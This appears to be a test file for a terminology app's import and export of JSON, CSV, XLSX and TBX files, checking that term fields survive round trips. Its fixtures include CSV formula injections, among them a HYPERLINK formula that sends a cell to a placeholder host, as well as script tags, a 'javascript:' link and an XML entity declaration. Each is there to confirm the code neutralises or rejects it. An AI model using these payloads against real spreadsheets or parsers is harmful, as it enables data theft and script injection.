import { cellText, csvCell } from '@terimce/contract/csv-text';
import type { ContentLanguage } from '@terimce/contract/languages';
import { splitList } from '@terimce/contract/list-text';
import { TERM_CONTENT_FIELDS, type TermContent } from '@terimce/contract/term-fields';
import { withNameGroups } from '@terimce/contract/term-names';
import { CodedError } from '@terimce/core/coded-error';
import { type ExchangeRow, toExchangeRow } from '@terimce/core/files/exchange-row';
import { writeTbx } from '@terimce/core/files/tbx-write';
import { type ParsedRow, parseRow } from '@terimce/core/imports/check-row';
import type { TermRecord } from '@terimce/core/models/term';
import { completeContent } from '@terimce/core/terms/term';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { anyTerm, longestTerm } from '../../../test/any-term.js';
import { hasHtml, htmlToText } from '../../shared/files/html-text.js';
import { readJson, writeJson } from '../../shared/files/json-file.js';
import { type ExchangeFormat, readFile } from '../../shared/files/read-file.js';
import { tableContent } from '../../shared/files/table-file.js';
import { readTbx } from '../../shared/files/tbx-read.js';
import { rowPreparer } from '../imports/prepare-row.js';
import { cellsNeeded, termTable } from './term-table.js';

const full: TermContent = completeContent({
  englishTerm: 'Heat & mass <transfer>',
  turkishTerm: "=Isı ve 'kütle' aktarımı",
  englishDefinition: 'First line\nsecond "quoted" line, with a comma; and more',
  turkishDefinition: '-Eksiyle başlayan tanım',
  englishExample: '+1 is positive',
  turkishExample: "'=1+1 iki eder",
  englishDetail: '@mention',
  turkishDetail: 'ayrıntı: iki nokta',
  category: 'mechanical',
  tags: ['ısı', 'a,b', 'c|d', 'back\\slash'],
  searchKeywords: ['heat transfer', 'ısı geçişi'],
  image: 'https://example.org/a.png?x=1&y=2',
  animation: '/uploads/a.mp4',
  blog: '# Başlık\n\nMetin: ]]> <b>&amp;</b>',
  blogEn: 'Long-form note',
  names: [
    { text: 'heat/mass; transfer|x', language: 'en', kind: 'synonym', note: 'a; b|c' },
    { text: 'HMT', language: 'en', kind: 'abbreviation' },
    { text: 'ısı-kütle geçişi', language: 'tr', kind: 'shop' },
    { text: 'ısı nakli', language: 'tr', kind: 'avoid', note: 'ısı aktarımı deyin' },
  ],
  englishGloss: 'process',
  turkishGloss: 'işlem',
  symbol: 'q',
  unit: 'W/m²',
  formula: 'q = -k \\nabla T',
  standards: ['ISO 80000-5', 'TS EN 1,2'],
  slug: 'heat-and-mass-transfer',
  metaTitle: 'Title',
  metaDescription: 'Description',
  translations: {
    de: { term: 'Wärme- und Stoffübertragung', definition: 'Übertragung' },
    ar: { term: 'انتقال الحرارة', definition: 'تعريف' },
    hi: { definition: 'केवल परिभाषा' },
  },
});
const turkishOnly = completeContent({
  turkishTerm: 'Akım',
  turkishDefinition: 'Yük akışı',
  englishDefinition: 'Flow of charge',
  englishExample: 'without a headword',
  category: 'electrical',
  image: '/uploads/a.png',
});

async function* batch<T>(rows: T[]) {
  yield rows;
}
async function* bytes(text: string, size: number) {
  const all = Buffer.from(text);
  for (let at = 0; at < all.length; at += size) yield all.subarray(at, at + size);
}
async function collect<T>(source: AsyncIterable<T>): Promise<T[]> {
  const all: T[] = [];
  for await (const item of source) all.push(item);
  return all;
}
const equal = (a: unknown, b: unknown) => JSON.stringify(a) === JSON.stringify(b);

/** A row as an import of new terms reads it. */
const asContent = (row: unknown) => {
  const parsed = parseRow(row, 0);
  expect(parsed).not.toHaveProperty('issues');
  expect(parsed.unknown).toEqual([]);
  const { content, nameGroups } = parsed as ParsedRow;
  return completeContent({ ...content, names: withNameGroups(content.names ?? [], nameGroups) });
};

/** Writes terms as the panel exports them, with all columns. */
const table = (format: 'csv' | 'xlsx', language: ContentLanguage) =>
  async function* (terms: TermContent[]): AsyncGenerator<string | Buffer> {
    const at = new Date('2026-11-20T09:00:00Z');
    const records = terms.map((term, i) => ({ ...term, _id: String(i), createdAt: at }));
    const batches = () => batch(records as unknown as TermRecord[]);
    const parts = format === 'xlsx' ? await cellsNeeded(batches()) : new Map();
    const options = { language, categoryName: (slug: string) => slug, parts };
    yield* tableContent(termTable(batches(), options), { format, language });
  };

const formats: Record<string, Format> = {
  json: { write: writeJson, read: readJson },
  tbx: { write: writeTbx, read: readTbx },
};
interface Format {
  write: (batches: AsyncIterable<ExchangeRow[]>) => AsyncIterable<string>;
  read: (source: AsyncIterable<Uint8Array>) => AsyncIterable<unknown>;
}

describe.each(Object.entries(formats))('%s', (_, { write, read }) => {
  it.each([1, 7, 1_000_000])(
    'keeps every field through a round trip, %d bytes at a time',
    async (size) => {
      const rows = [full, turkishOnly].map(toExchangeRow);
      const file = (await collect(write(batch(rows)))).join('');
      const back = await collect(read(bytes(file, size)));
      expect(back.map(asContent)).toEqual([full, turkishOnly]);
    },
  );

  it('writes and reads a file without terms', async () => {
    const file = (await collect(write(batch([])))).join('');
    expect(await collect(read(bytes(file, 100)))).toEqual([]);
  });
});

describe.each([
  ['json', (terms: TermContent[]) => writeJson(batch(terms.map(toExchangeRow)))],
  ['csv', table('csv', 'tr')],
  ['csv', table('csv', 'en')],
  ['xlsx', table('xlsx', 'tr')],
  ['tbx', (terms: TermContent[]) => writeTbx(batch(terms.map(toExchangeRow)))],
] as const)('a whole %s file', (format: ExchangeFormat, write) => {
  const backFrom = async (terms: TermContent[]) => {
    const pieces = (await collect<string | Buffer>(write(terms))).map((piece) =>
      Buffer.from(piece),
    );
    const { rows: read, ...facts } = await readFile(Buffer.concat(pieces), {}, 100);
    expect(facts.format).toBe(format);
    const prepare = rowPreparer(facts, { html: 'text', empty: 'keep' });
    return read.map((row) => {
      const { id: _, ...term } = (prepare(row) as { term: { id?: string } }).term;
      return asContent(term);
    });
  };

  it('is recognized, and keeps every field', async () => {
    expect(await backFrom([full, turkishOnly])).toEqual([full, turkishOnly]);
  });

  it('keeps every field of any terms', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyTerm, { minLength: 1, maxLength: 3 }), async (terms) => {
        expect(await backFrom(terms)).toEqual(terms);
      }),
      { numRuns: 20 },
    );
  });

  it('keeps characters of two units wherever the reader cuts the file', async () => {
    const terms = ['', 'a'].map((start) => ({ ...full, blog: start + '😀'.repeat(9_000) }));
    expect(await backFrom(terms)).toEqual(terms);
  });

  it('keeps every field at its longest', async () => {
    const [back] = await backFrom([longestTerm]);
    expect(
      TERM_CONTENT_FIELDS.filter((field) => !equal(back?.[field], longestTerm[field])),
    ).toEqual([]);
  });
});

describe('HTML in texts', () => {
  it.each([
    ['<p>Isı&nbsp;iletimi</p><p>ikinci</p>', 'Isı iletimi\nikinci'],
    ['<ul><li>bir</li><li>iki</li></ul>', '- bir\n- iki'],
    ['m<sup>2</sup>, CO<sub>2</sub>, x<sup>n</sup>', 'm², CO₂, xⁿ'],
    ['10<sup>-3</sup>, x<sup>a/b</sup>, σ<sub>Y</sub>', '10⁻³, x^(a/b), σ_(Y)'],
    ['a<br/>b<script>alert(1)</script>', 'a\nb'],
    ['<b>x</b> &lt; 5 &amp; <y> is kept', 'x < 5 & <y> is kept'],
    ['<a href="javascript:x">bağ</a>', 'bağ'],
    ['R &Omega; &le; b, &Delta;T, &alpha;-iron, x &minus; y', 'R Ω ≤ b, ΔT, α-iron, x − y'],
    ['da&gbreve;, &Idot;stanbul, &#8486;, &eacute;', 'dağ, İstanbul, \u2126, é'],
  ])('converts %j to %j', (html, text) => {
    expect(hasHtml(html)).toBe(true);
    expect(htmlToText(html)).toBe(text);
  });

  it.each(['a < b and c > d', 'x <y> z', 'R&D', 'R&D;', 'i<n; j>m', '5 &c'])(
    'finds none in %j',
    (text) => {
      expect(hasHtml(text)).toBe(false);
    },
  );
});

describe('CSV cells', () => {
  it.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', '\tx', "'=x", "''-x"],
    ...['007', '3E5', '1234567890123456'],
  ])('neutralises %j', (text) => {
    expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/);
    expect(cellText(`'\u00a0${text}`)).toBe(text);
  });

  it.each([
    [';=1+1', '^;^=1+1'],
    ['a;=HYPERLINK("http://x/?"&A1,"b");', 'a;^=HYPERLINK("http://x/?"&A1,"b");'],
    ['a,@b', 'a,^@b'],
    ['a\t+1', 'a\t^+1'],
    ['a\r\n-1', 'a\r^\n^-1'],
    ['a; "=1', 'a;^ "=1'],
    ['＝1+1', '^＝1+1'],
    ['a;＋1', 'a;^＋1'],
    ['a;－1;＠b', 'a;^－1;^＠b'],
  ])('neutralises %j after the separators of other locales', (text, safe) => {
    const cell = csvCell(text);
    const shown = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    expect(shown).toBe(safe.replaceAll('^', "'\u00a0"));
    expect(cellText(shown)).toBe(text);
  });

  it('reads back every text, and writes no cell that a spreadsheet takes for a formula', () => {
    const characters = fc.constantFrom(...`=+-@;,\t\r\n'" \u00a0ax＝0E1`);
    fc.assert(
      fc.property(fc.string({ unit: characters, maxLength: 12 }), (text) => {
        const cell = csvCell(text);
        const plain = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        expect(cellText(plain)).toBe(text);
        for (const part of plain.split(/[,;\t\r\n]/)) expect(part).not.toMatch(/^["\s]*[=+\-@＝]/);
      }),
      { numRuns: 5_000 },
    );
  });

  it('does not change other text and numbers', () => {
    expect(csvCell("'tis")).toBe("'tis");
    expect(cellText("'tis")).toBe("'tis");
    // Of other programs, where the apostrophe is the author's.
    for (const text of ["'=' compares", "'@' symbol", "'+','-','='"])
      expect(cellText(text)).toBe(text);
    expect(csvCell(-5)).toBe('-5');
  });

  it('reads lists as people type them', () => {
    expect(splitList('a, b ,, c')).toEqual(['a', 'b', 'c']);
    expect(splitList('EDC|1,2-dichloroethane')).toEqual(['EDC', '1,2-dichloroethane']);
  });
});

describe('JSON', () => {
  const read = (text: string) => collect(readJson(bytes(text, 3)));

  it('reads a bare list, and a list after other fields', async () => {
    expect(await read(' [1, "a]", [2,{"b":"\\""}] ] ')).toEqual([1, 'a]', [2, { b: '"' }]]);
    expect(await read('{"dryRun": true, "terms": [{"a":1}], "x": [3]}')).toEqual([{ a: 1 }]);
  });

  it.each(['', '{}', '[1', '{"terms":[1]', '[,1]', '["a\nb"]'])('refuses %j', async (text) => {
    await expect(read(text)).rejects.toThrow(CodedError);
  });
});

describe('text that is not UTF-8, in formats that are always UTF-8', () => {
  it.each([
    ['JSON', readJson, '[{"turkishTerm":"ýslak buz"}]', 'INVALID_JSON'],
    ['TBX', readTbx, '<tbx><text>ý</text></tbx>', 'IMPORT_FILE_INVALID'],
  ])(
    'is refused in %s, rather than stored as replacement characters',
    async (_name, read, text, code) => {
      async function* windows1254() {
        // ı in Windows-1254 is the byte that is ý in Latin-1.
        yield Buffer.from(text, 'latin1');
      }
      await expect(collect(read(windows1254()))).rejects.toMatchObject({ code });
    },
  );
});

describe('TBX', () => {
  const read = (text: string) => collect(readTbx(bytes(text, 50)));

  it('reads the older version, and further terms as synonyms', async () => {
    const old =
      '<martif type="TBX"><text><body><termEntry id="x"><descrip type="subjectField">civil</descrip><langSet xml:lang="en-GB"><tig><term>beam</term></tig><tig><term>girder</term></tig></langSet><langSet xml:lang="tr"><ntig><termGrp><term>kiriş</term></termGrp></ntig></langSet></termEntry></body></text></martif>';
    expect(await read(old)).toEqual([
      {
        category: 'civil',
        englishTerm: 'beam',
        names: [{ text: 'girder', language: 'en', kind: 'synonym' }],
        turkishTerm: 'kiriş',
      },
    ]);
  });

  it('reads DCT style, and languages with an underscore', async () => {
    const dct =
      '<tbx style="dct" type="TBX-Basic" xmlns:min="m" xmlns:basic="b"><text><body><conceptEntry><min:subjectField>civil</min:subjectField><langSec xml:lang="en_US"><basic:definition>A bar.</basic:definition><termSec><term>beam</term><basic:context>The beam bends.</basic:context></termSec></langSec><langSec xml:lang="tr_TR"><termSec><term>kiriş</term></termSec></langSec></conceptEntry></body></text></tbx>';
    expect(await read(dct)).toEqual([
      {
        category: 'civil',
        englishTerm: 'beam',
        englishDefinition: 'A bar.',
        englishExample: 'The beam bends.',
        turkishTerm: 'kiriş',
      },
    ]);
  });

  it.each([
    '<html></html>',
    '<tbx><text>',
    '',
    '<!DOCTYPE x [<!ENTITY e "boom">]><tbx><text><body><conceptEntry><langSec xml:lang="en"><termSec><term>&e;</term></termSec></langSec></conceptEntry></body></text></tbx>',
  ])('refuses %j', async (text) => {
    await expect(read(text)).rejects.toMatchObject({ code: 'IMPORT_FILE_INVALID' });
  });

  it('writes elements in the order and at the levels of TBX-Basic', async () => {
    const file = (await collect(writeTbx(batch([toExchangeRow(full)])))).join('');
    expect(file).toMatch(
      /<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">/,
    );
    const entry = /<conceptEntry id="c1">(.*)<\/conceptEntry>/s.exec(file)?.[1] ?? '';
    expect(entry.indexOf('subjectField')).toBeLessThan(entry.indexOf('<langSec'));
    // Notes of the entry come first; only other names have notes of their own.
    expect(entry.lastIndexOf('<note>searchKeywords')).toBeLessThan(entry.indexOf('<langSec'));
    for (const section of entry.match(/<langSec.*?<\/langSec>/gs) ?? []) {
      if (section.includes('<termNote')) continue;
      expect(section).toMatch(
        /^<langSec xml:lang="[a-z]{2}">(<descrip type="definition">[^<]+<\/descrip>)?<termSec><term>[^<]+<\/term>(<descrip type="context">[^<]+<\/descrip>)?<\/termSec><\/langSec>$/,
      );
    }
  });
});
